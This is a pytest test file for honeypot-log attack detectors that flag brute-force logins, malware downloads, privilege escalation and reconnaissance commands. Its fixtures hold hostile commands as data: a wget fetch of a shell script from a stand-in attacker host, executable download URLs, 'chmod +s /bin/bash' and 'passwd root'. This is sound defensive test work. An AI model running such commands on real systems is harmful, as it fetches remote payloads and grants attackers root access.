"""
Tests for attack-pattern detectors.
"""

from datetime import timedelta

from honeylog.analytics.patterns.brute_force import BruteForceDetector
from honeylog.analytics.patterns.malware import MalwareDownloadDetector
from honeylog.analytics.patterns.commands import (
    PrivilegeEscalationDetector,
    ReconnaissanceDetector,
)
from tests.factories import FakeGeoLookup, NOW, failed_login, make_event


ATTACKER = "203.0.113.7"


class TestBruteForceDetector:
    """Tests for BruteForceDetector."""
    
    def setup_method(self):
        self.detector = BruteForceDetector(FakeGeoLookup({ATTACKER: "CN"}), threshold=10, window_minutes=60)
    
    def test_flags_twelve_failures_within_ten_minutes_once(self):
        events = [failed_login(ATTACKER, NOW + timedelta(seconds=50 * i)) for i in range(12)]
        
        findings = self.detector.detect(events)
        
        assert len(findings) == 1
        assert findings[0].ip == ATTACKER
        assert findings[0].failed_attempts == 12
        assert findings[0].location.country == "CN"
    
    def test_nine_failures_are_not_flagged(self):
        events = [failed_login(ATTACKER, NOW + timedelta(minutes=i)) for i in range(9)]
        
        assert self.detector.detect(events) == []
    
    def test_threshold_is_inclusive(self):
        events = [failed_login(ATTACKER, NOW) for _ in range(10)]
        
        findings = self.detector.detect(events)
        
        assert len(findings) == 1
        assert findings[0].failed_attempts == 10
    
    def test_failures_spread_beyond_window_are_not_flagged(self):
        events = [failed_login(ATTACKER, NOW + timedelta(minutes=7 * i)) for i in range(15)]
        
        # At most 9 failures fit in any 60 minute window at 7 minute spacing
        assert self.detector.detect(events) == []
    
    def test_successful_logins_start_windows_but_are_not_counted(self):
        events = [make_event("cowrie.login.success", NOW, ATTACKER, username="root", password="x")]
        events += [failed_login(ATTACKER, NOW + timedelta(minutes=60)) for _ in range(10)]
        events += [make_event("cowrie.login.success", NOW + timedelta(minutes=1), ATTACKER) for _ in range(5)]
        
        findings = self.detector.detect(events)
        
        assert len(findings) == 1
        assert findings[0].failed_attempts == 10
        # Window starting at the success event already reaches the failures
        assert findings[0].time_window.start == NOW
        assert findings[0].time_window.end == NOW + timedelta(hours=1)
    
    def test_earliest_window_wins_and_ip_reported_once(self):
        first_burst = [failed_login(ATTACKER, NOW + timedelta(seconds=i)) for i in range(10)]
        second_burst = [failed_login(ATTACKER, NOW + timedelta(hours=5, seconds=i)) for i in range(30)]
        
        findings = self.detector.detect(second_burst + first_burst)
        
        assert len(findings) == 1
        assert findings[0].time_window.start == NOW
        assert findings[0].failed_attempts == 10
    
    def test_separate_ips_get_separate_findings(self):
        events = []
        for ip in ["198.51.100.20", "198.51.100.21"]:
            events += [failed_login(ip, NOW + timedelta(seconds=i)) for i in range(10)]
        
        findings = self.detector.detect(events)
        
        assert sorted(f.ip for f in findings) == ["198.51.100.20", "198.51.100.21"]
        assert all(f.location is None for f in findings)
    
    def test_events_without_source_ip_are_ignored(self):
        events = [failed_login(None, NOW) for _ in range(20)]
        
        assert self.detector.detect(events) == []


class TestMalwareDownloadDetector:
    """Tests for MalwareDownloadDetector."""
    
    def setup_method(self):
        self.detector = MalwareDownloadDetector(FakeGeoLookup({ATTACKER: "CN"}))
    
    def test_flags_script_and_executable_urls(self):
        events = [
            make_event("cowrie.session.file_download", NOW, ATTACKER, url="http://evil.example/bot.sh"),
            make_event("cowrie.session.file_download", NOW, ATTACKER, url="http://evil.example/x.exe"),
            make_event("cowrie.session.file_download", NOW, ATTACKER, url="http://evil.example/run.py?x=1"),
            make_event("cowrie.session.file_download", NOW, ATTACKER, url="http://evil.example/data.txt"),
        ]
        
        findings = self.detector.detect(events)
        
        assert [f.url for f in findings] == [
            "http://evil.example/bot.sh",
            "http://evil.example/x.exe",
            "http://evil.example/run.py?x=1",
        ]
        assert findings[0].location.country == "CN"
    
    def test_match_is_case_sensitive(self):
        events = [make_event("cowrie.session.file_download", NOW, ATTACKER, url="http://evil.example/BOT.SH")]
        
        assert self.detector.detect(events) == []
    
    def test_only_download_events_count(self):
        events = [
            make_event("cowrie.command.input", NOW, ATTACKER, input="wget http://evil.example/bot.sh"),
            make_event("cowrie.session.file_download", NOW, ATTACKER),
        ]
        
        assert self.detector.detect(events) == []


class TestCommandDetectors:
    """Tests for privilege escalation and reconnaissance detectors."""
    
    def setup_method(self):
        geo = FakeGeoLookup()
        self.privilege = PrivilegeEscalationDetector(geo)
        self.recon = ReconnaissanceDetector(geo)
    
    def _commands(self, *inputs):
        return [make_event("cowrie.command.input", NOW, ATTACKER, input=text) for text in inputs]
    
    def test_privilege_escalation_keywords(self):
        events = self._commands("SUDO -i", "chmod +s /bin/bash", "passwd root", "echo hello")
        
        findings = self.privilege.detect(events)
        
        assert [f.command for f in findings] == ["SUDO -i", "chmod +s /bin/bash", "passwd root"]
    
    def test_privilege_escalation_substring_hits_inside_words(self):
        findings = self.privilege.detect(self._commands("cat /proc/cpuinfo | grep -i result"))
        
        assert len(findings) == 1
    
    def test_reconnaissance_keywords(self):
        events = self._commands("whoami", "uname -a", "ps aux", "NETSTAT -an", "ifconfig", "ls /etc/", "cd /tmp")
        
        findings = self.recon.detect(events)
        
        assert len(findings) == 6
        assert findings[0].ip == ATTACKER
        assert findings[0].timestamp == NOW
    
    def test_non_command_events_are_ignored(self):
        events = [make_event("cowrie.login.failed", NOW, ATTACKER, input="whoami")]
        
        assert self.recon.detect(events) == []
